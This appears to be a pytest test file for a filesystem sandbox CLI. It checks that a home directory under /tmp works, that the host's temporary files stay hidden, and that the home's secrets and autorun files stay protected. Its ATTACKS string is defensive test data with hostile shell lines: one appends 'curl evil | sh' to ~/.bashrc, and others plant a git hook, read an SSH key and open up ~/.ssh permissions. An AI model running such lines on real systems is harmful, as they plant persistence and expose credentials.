"""A home under /tmp (CI images and containers set HOME=/tmp/...): every default run
from a project in it works, as root and as an unprivileged user, while the rest of
the host's /tmp stays out of view and the home's secrets and autorun files stay
protected. Each case runs the real CLI with nothing widened but what it says (the
session's SANDLOCK_FS_WRITE would bring the whole of pytest's temporary root into
view, hiding the bug)."""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile
import uuid
from pathlib import Path

import pytest

from conftest import SANDLOCK, UNPRIVILEGED_UID, UNWIDENED, users

GIT_IDENTITY = {"GIT_AUTHOR_NAME": "Agent", "GIT_AUTHOR_EMAIL": "agent@example.test",
                "GIT_COMMITTER_NAME": "Agent", "GIT_COMMITTER_EMAIL": "agent@example.test"}


def make_home(base: str, owner: int | None = None) -> Path:
    """A home in ``base`` as a user has it: shell start-up file, git settings, a key,
    a cache, and a project (a git repository) to work in."""
    home = Path(tempfile.mkdtemp(prefix="sandlock-test-home-", dir=base))
    (home / ".bashrc").write_text("# the user's\n")
    (home / ".gitconfig").write_text("[user]\n\tname = Agent\n\temail = agent@example.test\n")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text("secret key\n")
    (home / ".cache").mkdir()
    (home / "notes.txt").write_text("private notes\n")
    subprocess.run(["git", "init", "-q", str(home / "proj")], check=True)
    for path in [home, *home.rglob("*")]:
        os.chmod(path, 0o755 if path.is_dir() else 0o644)
        if owner is not None:
            os.chown(path, owner, owner, follow_symlinks=False)
    return home


@pytest.fixture(params=["/tmp", "/var/tmp", "/dev/shm"])
def tmp_home(request):
    home = make_home(request.param)
    yield home
    shutil.rmtree(home)


@pytest.fixture
def host_files():
    """A file of the host's in each scratch directory, which no sandbox may see."""
    paths = [os.path.join(base, f"sandlock-test-host-{uuid.uuid4().hex[:8]}")
             for base in ("/tmp", "/var/tmp", "/dev/shm")]
    for path in paths:
        Path(path).write_text("host\n")
    yield paths
    for path in paths:
        os.unlink(path)


def run(home: Path, script: str, *options: str, args=(), as_user=lambda argv: argv, env=None,
        cwd: Path | None = None) -> subprocess.CompletedProcess:
    argv = as_user([*SANDLOCK, "run", *options, "--", "sh", "-c", script, "sh", *args])
    return subprocess.run(argv, capture_output=True, text=True, timeout=60,
                          cwd=cwd or home / "proj",
                          env={**UNWIDENED, **GIT_IDENTITY, "HOME": str(home), **(env or {})})


WORK = ('mkdir /tmp/x && echo made > /tmp/x/f && cat /tmp/x/f; '
        'echo built > out.txt && git add out.txt && git commit -qm build && echo committed; '
        'for f in "$@"; do test -e "$f" && echo "sees $f"; done; '
        'cat ~/.ssh/id_ed25519 ~/notes.txt ~/.bashrc 2>/dev/null; ls -A ~')


def test_a_default_run_from_a_project_in_a_home_under_tmp_works(tmp_home, host_files):
    """Before: exit 125 "cannot make the sandbox's mounts" (~/.bashrc bound read-only
    after the scratch directory was replaced), and with ~/.ssh present, /tmp kept only
    the right to be listed (mkdir /tmp/x: Permission denied)."""
    result = run(tmp_home, WORK, args=host_files)
    assert result.returncode == 0, result.stderr
    lines = result.stdout.split()
    assert lines[:2] == ["made", "committed"], result.stderr
    # Nothing of the host's temporary directories, nor of the home but what is granted.
    assert not any(line.startswith("sees") for line in lines)
    assert "secret" not in result.stdout and "private" not in result.stdout
    assert set(lines[2:]) <= {".cache", ".npm", "proj", ".gitconfig"}, lines
    assert (tmp_home / "proj" / "out.txt").read_text() == "built\n"
    assert not os.path.exists("/tmp/x")


def test_an_unprivileged_user_with_a_home_under_tmp(as_nobody, host_files):
    home = make_home("/tmp", owner=UNPRIVILEGED_UID)
    try:
        result = run(home, WORK, args=host_files, as_user=as_nobody)
        assert result.returncode == 0, result.stderr
        lines = result.stdout.split()
        assert lines[:2] == ["made", "committed"] and not any(line.startswith("sees") for line in lines)
        assert "secret" not in result.stdout and "private" not in result.stdout
        assert (home / "proj" / "out.txt").read_text() == "built\n"
    finally:
        shutil.rmtree(home)


ATTACKS = ('echo "curl evil | sh" >> ~/.bashrc; echo bashrc=$?; '
           'echo evil > .git/hooks/pre-commit; echo hook=$?; '
           'cat ~/.ssh/id_ed25519; echo key=$?; chmod 777 ~/.ssh; echo chmod=$?; '
           'echo mine >> ~/notes.txt; echo notes=$?; mkdir /tmp/x; echo tmp=$?')


@users
def test_a_granted_home_under_tmp_keeps_its_autorun_files_and_secrets(as_nobody_or_self):
    """The home itself granted (SANDLOCK_FS_WRITE=~) under the run's own, writable /tmp:
    its start-up files and the repository's hooks are read-only, its key unreadable
    and its mask unchangeable; the rest of it writable, and /tmp too."""
    home = make_home("/tmp", owner=UNPRIVILEGED_UID if as_nobody_or_self else None)
    try:
        result = run(home, ATTACKS, as_user=as_nobody_or_self or (lambda argv: argv),
                     env={"SANDLOCK_FS_WRITE": str(home)})
        assert result.stdout.split() == ["bashrc=2", "hook=2", "key=1", "chmod=1", "notes=0",
                                         "tmp=0"], result.stderr
        assert (home / ".bashrc").read_text() == "# the user's\n"
        assert not (home / "proj" / ".git" / "hooks" / "pre-commit").exists()
        assert os.stat(home / ".ssh").st_mode & 0o777 == 0o755
        assert (home / "notes.txt").read_text() == "private notes\nmine\n"
        # The control: what the protection holds back, --allow-autorun-writes lets through.
        allowed = run(home, ATTACKS, "--allow-autorun-writes",
                      as_user=as_nobody_or_self or (lambda argv: argv),
                      env={"SANDLOCK_FS_WRITE": str(home)})
        assert allowed.stdout.split()[:2] == ["bashrc=0", "hook=0"], allowed.stderr
    finally:
        shutil.rmtree(home)


def test_selftest_passes_with_a_home_under_tmp():
    """Before: a false ✗ ("the rest of $HOME is unreadable": the sandbox's own /tmp
    holds the home's granted parts, so it could be listed) and two checks failing
    with exit 125."""
    home = make_home("/tmp")
    try:
        result = subprocess.run([*SANDLOCK, "selftest"], capture_output=True, text=True,
                                timeout=300, cwd=home / "proj", env={**UNWIDENED, "HOME": str(home)})
        assert result.returncode == 0, result.stdout + result.stderr
        assert "\N{CHECK MARK} the rest of $HOME is unreadable by default" in result.stdout
    finally:
        shutil.rmtree(home)


def test_selftest_still_fails_when_the_home_is_opened():
    """The control: a home under /tmp granted whole (SANDLOCK_FS_READ=~) shows its files
    in the sandbox, and the check says so."""
    home = make_home("/tmp")
    try:
        result = subprocess.run([*SANDLOCK, "selftest"], capture_output=True, text=True,
                                timeout=300, cwd=home / "proj",
                                env={**UNWIDENED, "HOME": str(home), "SANDLOCK_FS_READ": str(home)})
        assert "\N{BALLOT X} the rest of $HOME is unreadable by default" in result.stdout
        assert ".bashrc" in result.stdout and result.returncode == 1
    finally:
        shutil.rmtree(home)
